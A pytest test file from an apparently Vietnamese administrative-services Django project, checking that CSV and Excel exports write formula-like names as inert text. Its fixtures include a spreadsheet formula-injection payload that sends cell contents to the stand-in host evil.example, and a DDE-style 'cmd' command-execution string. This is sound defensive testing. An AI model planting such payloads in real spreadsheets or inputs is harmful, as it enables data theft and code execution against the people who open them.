"""Formula injection in what the project writes for spreadsheets (issue 17, point 9).

A name such as `=HYPERLINK("http://evil.example/?"&A1;"Bấm vào đây")` typed by an applicant or an
administrator must reach the officer's spreadsheet as text, never as a formula: one helper
(motcua.core.spreadsheets) used by every writer: the 06a CSV and workbook, the catalogue export
(the reconciliation workbook is tested in payments/tests/test_export_injection.py). Numbers stay
numbers.
"""
import csv
import datetime
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from motcua.catalog import import_export
from motcua.core.spreadsheets import csv_row, csv_value, is_formula_like, protect_workbook, workbook_bytes
from motcua.reports.dossier_table import dossier_table
from motcua.reports.exports import to_csv, to_xlsx

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
STARTS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", STARTS)
def test_a_formula_like_text_gets_an_apostrophe_in_csv(text):
    assert is_formula_like(text)
    assert csv_value(text) == "'" + text


@pytest.mark.parametrize("value", [5, -3, 2.5, "-5", "+84", "1.234,5", "Nguyễn Văn A", "", None, "a=b", "000.00.20.H99"])
def test_numbers_and_ordinary_texts_are_untouched(value):
    assert not is_formula_like(value)
    assert csv_value(value) == value


def test_csv_row_keeps_numbers():
    assert csv_row(["=1+1", 12, -4, "x"]) == ["'=1+1", 12, -4, "x"]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def assert_no_formula(data: bytes):
    """No cell of the workbook is a formula (no <f> element at all)."""
    xml = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml


def test_workbook_cells_become_quote_prefixed_strings():
    book = Workbook()
    book.active.append([EVIL, "@x", 7, -7, "ok"])
    data = workbook_bytes(book)
    assert_no_formula(data)
    row = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=False))[0]
    assert [(c.value, c.data_type, bool(c.quotePrefix)) for c in row] == [
        (EVIL, "s", True), ("@x", "s", True), (7, "n", False), (-7, "n", False), ("ok", "s", False)]
    assert protect_workbook(Workbook()) is not None  # an empty workbook is fine


@pytest.mark.django_db
def test_the_06a_csv_and_workbook_write_a_formula_like_name_as_text():
    table = dossier_table(datetime.date(2026, 3, 1), datetime.date(2026, 3, 31))
    table["rows"] = [dict(table["total"], key=1, code="=1+2", name=EVIL)]
    table["total"] = dict(table["total"], received=3)
    lines = list(csv.reader(io.StringIO(to_csv(table))))
    assert lines[1][:3] == ["1", "'=1+2", "'" + EVIL]
    assert lines[2][3:] and all(not v.startswith("'") for v in lines[2][3:])  # figures stay figures
    data = to_xlsx(table)
    assert_no_formula(data)
    sheet = load_workbook(io.BytesIO(data)).active
    found = [c for row in sheet.iter_rows() for c in row if c.value == EVIL]
    assert len(found) == 1 and found[0].data_type == "s"
    numbers = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, int)]
    assert numbers  # the figures are number cells


@pytest.mark.django_db
def test_the_catalogue_export_writes_text_and_reads_it_back_unchanged(monkeypatch):
    tables = {name: [] for name in import_export.TABLES}
    tables["fields"] = [{"code": "=1+1", "name": EVIL, "name_en": EVIL},
                        {"code": "ho-tich", "name": "Hộ tịch", "name_en": "Civil status"}]
    monkeypatch.setattr(import_export, "export_tables", lambda: tables)
    data = import_export.export_catalog("xlsx")
    assert_no_formula(data)
    read = import_export.read_xlsx(data)["fields"]
    assert [(r.values["code"], r.values["name"]) for r in read] == [("=1+1", EVIL), ("ho-tich", "Hộ tịch")]
